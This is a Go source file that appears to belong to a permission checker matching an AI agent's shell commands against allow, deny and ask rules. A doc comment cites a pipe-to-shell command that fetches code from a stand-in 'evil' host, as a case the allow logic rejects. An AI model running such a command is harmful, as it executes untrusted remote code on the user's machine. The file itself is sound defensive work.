package shell

import (
	"regexp"
	"strings"

	"github.com/wardenhq/warden/permission"
)

// MatchPattern matches one rule content against one command text with
// the syntax of spec §1.5: "prefix:*" matches the prefix as whole words
// ("npm run:*" matches "npm run" and "npm run build", not "npm runx"); a
// content with an unescaped "*" is a wildcard pattern matched against
// the whole text ("git *" also matches a bare "git"); anything else must
// equal the text (after unescaping "\*" and "\\"). [quirk] The reference
// uses substring containment for contents without "*", so "Bash(ls)"
// also allowed "lsblk"; exact equality is used here.
func MatchPattern(content, text string) bool {
	text = strings.Join(strings.Fields(text), " ")
	if strings.HasSuffix(content, ":*") {
		prefix := strings.Join(strings.Fields(content[:len(content)-2]), " ")
		return prefix != "" && (text == prefix || strings.HasPrefix(text, prefix+" "))
	}
	if !hasUnescapedStar(content) {
		return text == strings.Join(strings.Fields(unescapeRule(content)), " ")
	}
	re, err := wildcardRegexp(content)
	if err != nil {
		return false
	}
	if strings.HasSuffix(re, ".*") {
		if ok, _ := regexp.MatchString("^(?:"+strings.TrimRight(re[:len(re)-2], " \t")+")$", text); ok {
			return true
		}
	}
	ok, _ := regexp.MatchString("^(?:"+re+")$", text)
	return ok
}

func hasUnescapedStar(s string) bool {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '*':
			return true
		}
	}
	return false
}

func unescapeRule(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && (s[i+1] == '\\' || s[i+1] == '*') {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// wildcardRegexp converts a wildcard rule to a regexp: "*" becomes ".*",
// "\*" a literal star, everything else is quoted.
func wildcardRegexp(s string) (string, error) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '\\' && i+1 < len(s) && (s[i+1] == '*' || s[i+1] == '\\'):
			i++
			b.WriteString(regexp.QuoteMeta(string(s[i])))
		case c == '*':
			b.WriteString(".*")
		default:
			b.WriteString(regexp.QuoteMeta(string(c)))
		}
	}
	re := b.String()
	if _, err := regexp.Compile(re); err != nil {
		return "", err
	}
	return re, nil
}

// candidates are the texts a unit is matched against. Deny and ask rules
// see every form (the text as written, the words without prefix
// assignments); allow rules see the text as written and, when every
// prefix assignment is one of SAFE_ENV_VARS and nothing is redirected to
// a file, the bare words.
func (u *unit) candidates(strict bool) []string {
	out := []string{u.text}
	if len(u.args) == 0 {
		return out
	}
	norm := joinWords(u.args)
	if strict {
		for _, as := range u.assigns {
			if !suggestEnvSafe(as.name) {
				return out
			}
		}
		for _, r := range u.redirs {
			if writeRedir(r) {
				return out
			}
		}
	}
	if norm != u.text {
		out = append(out, norm)
	}
	return out
}

// MatchRule reports whether a rule content matches the command, for a
// rule of behaviour b. A compound command is matched per simple command:
//
//   - an allow rule matches when every top-level command either matches
//     it or is read-only on its own, and at least one matches (so
//     "npm run:*" does not allow "npm run x && curl evil | sh"); a command
//     that could not be analysed never matches an allow rule;
//   - a deny or ask rule matches when any command matches it, including
//     commands behind wrappers (sudo, env, xargs, timeout, ...), inside
//     bash -c scripts, find -exec and substitutions, or when the whole
//     raw string matches (so an unparsable command is still denied).
func (a *Analysis) MatchRule(content string, b permission.Behavior) bool {
	if content == "" {
		return true
	}
	if b == permission.Allow {
		if a.fail != "" || len(a.units) == 0 {
			return false
		}
		if !hasUnescapedStar(content) && MatchPattern(content, a.src) {
			return true // the exact command the user approved
		}
		matched := false
		for _, u := range a.units {
			if u.nested {
				continue
			}
			ok := false
			for _, c := range u.candidates(true) {
				if MatchPattern(content, c) {
					ok = true
					break
				}
			}
			switch {
			case ok:
				matched = true
			case unitReadOnly(u) && u.inner == 0:
			default:
				return false
			}
		}
		return matched
	}
	if MatchPattern(content, a.src) {
		return true
	}
	for _, u := range a.units {
		for _, c := range u.candidates(false) {
			if MatchPattern(content, c) {
				return true
			}
		}
	}
	if a.parseErr {
		return rawWordMatch(content, a.src)
	}
	return false
}

// rawWordMatch is the fallback for deny and ask rules on commands that
// do not parse: the rule's literal prefix appearing anywhere in the raw
// string at a word start.
func rawWordMatch(content, src string) bool {
	lit := strings.TrimSuffix(content, ":*")
	if i := strings.IndexByte(lit, '*'); i >= 0 {
		lit = lit[:i]
	}
	lit = strings.TrimSpace(lit)
	if lit == "" {
		return false
	}
	for i := 0; i+len(lit) <= len(src); i++ {
		if src[i:i+len(lit)] != lit {
			continue
		}
		if i > 0 && !strings.ContainsRune(" \t\n;&|(`$'\"{", rune(src[i-1])) {
			continue
		}
		return true
	}
	return false
}

// safeCommand is the spec's SAFE_COMMANDS: commands not worth a
// suggestion.
func safeCommand(n string) bool {
	return oneOf(strings.ToLower(n), "echo", "cat", "ls", "pwd", "cd", "true", "false", "printf", "grep", "tee")
}

// Suggestions proposes "prefix:*" allow rules (spec §1.6) from the first
// two words of each of the first five top-level commands, de-duplicated
// in order. A command gets none when it sets a variable outside
// SAFE_ENV_VARS, is one of SAFE_COMMANDS, or has fewer than two plain
// words. [doc≠code] The second word must not be a flag (the reference
// suggests "rm -rf:*" for "rm -rf x"; its docstring says it should not).
// A command that could not be analysed gets no suggestions.
func (a *Analysis) Suggestions() []permission.Rule {
	out := []permission.Rule{}
	if a.fail != "" {
		return out
	}
	seen := 0
	for _, u := range a.units {
		if u.nested {
			continue
		}
		if seen++; seen > 5 {
			break
		}
		p := u.prefix()
		if p == "" {
			continue
		}
		dup := false
		for _, r := range out {
			if r.Content == p+":*" {
				dup = true
			}
		}
		if !dup {
			out = append(out, permission.Rule{Tool: "Bash", Content: p + ":*", Behavior: permission.Allow, Source: "suggested"})
		}
	}
	return out
}

func (u *unit) prefix() string {
	if len(u.args) < 2 {
		return ""
	}
	for _, as := range u.assigns {
		if !suggestEnvSafe(as.name) {
			return ""
		}
	}
	name := u.args[0]
	if name.quoted || name.dynamic || name.glob || safeCommand(name.val) {
		return ""
	}
	for _, w := range u.args[1:] {
		if w.quoted {
			continue // the reference skips quoted arguments
		}
		if w.dynamic || w.glob || strings.HasPrefix(w.val, "-") || strings.ContainsAny(w.val, " \t\n*\\()") {
			return ""
		}
		return name.val + " " + w.val
	}
	return ""
}
